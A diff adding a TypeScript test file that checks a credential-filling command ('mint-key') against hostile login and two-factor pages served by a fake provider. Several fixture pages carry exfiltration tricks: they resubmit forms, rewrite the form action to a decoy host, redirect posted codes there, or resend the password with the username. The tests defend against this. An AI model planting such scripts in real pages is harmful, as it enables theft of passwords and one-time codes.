@@ -1,0 +1,143 @@
+import { startDecoy } from '../faults/fault-proxy.ts';
+import { expect, test } from '../fixtures.ts';
+import { ASSERT, ask, DONE, redirect, serveProvider, withBody } from './serve-provider.ts';
+
+// Forms that show nothing of what was typed into them, and pages that send it along with something else.
+
+test.use({ sharesBrowser: true });
+
+const WORDS = ['--timeout', '30s'];
+const AGAIN = 'form.onsubmit = () => { setTimeout(() => form.submit(), 300); };';
+const NOT_ASCII = { OCTOPUS_PASSWORD: 'Zażółć-gęślą-jaźń-fake' };
+const BOXES = `<!doctype html><h1>Two-factor authentication</h1><p>Enter the code of your authenticator app.</p>
+  <form method="post" action="/take">${[1, 2, 3, 4, 5, 6].map((at) => `<input name="c${at}" maxlength="1" size="2" aria-label="Digit ${at} of the code">`).join('')}
+  <button>Verify</button></form><script>const [form] = document.forms;`;
+
+interface Row {
+  readonly page: (decoy: string) => string;
+  readonly env?: Readonly<Record<string, string>>;
+  /** What a form is called that brings it. */
+  readonly isExtended?: true;
+}
+
+const rows: Readonly<Record<string, Row>> = {
+  'a code in six boxes': { page: () => `${BOXES}${AGAIN}</script>` },
+  'a code in six boxes, whose page has changed its address meanwhile': {
+    page: () =>
+      `${BOXES}${AGAIN.replace('form.submit()', "{ history.pushState(0, '', '/other'); form.submit(); }")}</script>`,
+    isExtended: true,
+  },
+  'a code in six boxes, which a changed form takes elsewhere': {
+    page: (decoy) =>
+      `${BOXES}${AGAIN.replace('form.submit()', `{ form.action = '${decoy}/took'; form.submit(); }`)}</script>`,
+    isExtended: true,
+  },
+  'a code that the page writes in groups': {
+    page: () =>
+      ask(
+        'one-time code',
+        `input.oninput = () => { if (/^\\d{6}$/.test(input.value)) input.value = input.value.slice(0, 3) + ' ' + input.value.slice(3); };${AGAIN}`,
+      ),
+    isExtended: true,
+  },
+  'a password in another charset': {
+    page: () => ask('password', AGAIN, 'method="post" action="/take" accept-charset="iso-8859-2"'),
+    env: NOT_ASCII,
+    isExtended: true,
+  },
+  'a password in plain text': {
+    page: () => ask('password', AGAIN, 'method="post" action="/take" enctype="text/plain"'),
+    env: NOT_ASCII,
+    isExtended: true,
+  },
+};
+
+for (const [what, { page, env, isExtended }] of Object.entries(rows))
+  test(`${what} leaves once, though its form is sent again, and follows no redirect: exit 4`, {
+    tag: isExtended ? '@extended' : [],
+  }, async ({ startServer, runCommand }) => {
+    const server = await startServer();
+    await using decoy = await startDecoy();
+    let taken = 0;
+    await using provider = await serveProvider(server, {
+      '/': page(decoy.url),
+      '/take': (incoming, outgoing) => {
+        taken += 1;
+        if (taken > 1) return redirect(307, `${decoy.url}/took`)(incoming, outgoing);
+        outgoing.writeHead(204).end();
+      },
+    });
+    const { code, stderr } = await runCommand('mint-key', { env: { ...provider.env, ...env }, words: WORDS });
+
+    expect(decoy.heard, stderr).toEqual([]);
+    expect(withBody(provider.heard), stderr).toHaveLength(1);
+    expect(code, stderr).toBe(4);
+    expect(stderr).not.toContain('nothing was typed there');
+  });
+
+test('the page right behind a code may send itself on, also in the same document that has asked for it: the key is made', {
+  tag: '@extended',
+}, async ({ startServer, runCommand }) => {
+  const server = await startServer();
+  const inPlace = `form.onsubmit = async (event) => {
+    event.preventDefault();
+    await fetch('/take', { method: 'POST', body: new URLSearchParams(new FormData(form)) });
+    const next = document.createElement('form');
+    next.method = 'post';
+    next.action = '/end';
+    next.innerHTML = '<input name="state" value="abcdef1234567890abcdef1234567890">';
+    document.body.append(next);
+    next.submit();
+  };`;
+  for (const [page, taken] of [
+    [`${BOXES}</script>`, redirect(303, ASSERT)],
+    [ask('one-time code', inPlace), 'taken'],
+    [ask('password', inPlace), 'taken'],
+  ] as const) {
+    await using provider = await serveProvider(server, {
+      '/': page,
+      '/take': taken,
+      '/end': redirect(303, DONE),
+    });
+    const { code, stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });
+    expect(code, stderr).toBe(0);
+  }
+});
+
+/** A page that asks for the password first, and then, in the same document, for the user name. */
+const inOneDocument = (
+  send: string,
+): string => `<!doctype html><title>Password</title><h1>Give your password</h1>
+  <form method="post"><input type="password" name="password"><button>Next</button></form><script>
+    let password = '';
+    document.forms[0].onsubmit = async (event) => {
+      event.preventDefault();
+      password = event.target.password.value;
+      await fetch('/password', { method: 'POST', body: password });
+      document.body.innerHTML = '<h1>Sign in</h1><form method="post" action="/take"><label>Username <input name="username" autocomplete="username"></label><button>Next</button></form>';
+      document.forms[0].onsubmit = async (event) => {
+        event.preventDefault();
+        const username = event.target.username.value;
+        ${send}
+      };
+    };
+  </script>`;
+
+test('a password leaves once, though it is sent along with the user name later', async ({
+  startServer,
+  runCommand,
+}) => {
+  const server = await startServer();
+  const send = `for (const _ of 'abc') await fetch('/again', { method: 'POST', body: JSON.stringify({ username, password }) }).catch(() => {});
+    location = '${DONE}';`;
+  await using provider = await serveProvider(server, {
+    '/': inOneDocument(send),
+    '/password': 'taken',
+    '/again': 'taken',
+  });
+  const { stderr } = await runCommand('mint-key', { env: provider.env, words: WORDS });
+
+  const told = withBody(provider.heard).filter((line) => line.includes(provider.env.OCTOPUS_PASSWORD ?? ''));
+  expect(told, stderr).toHaveLength(1);
+  expect(stderr).toContain('asks for user name');
+});
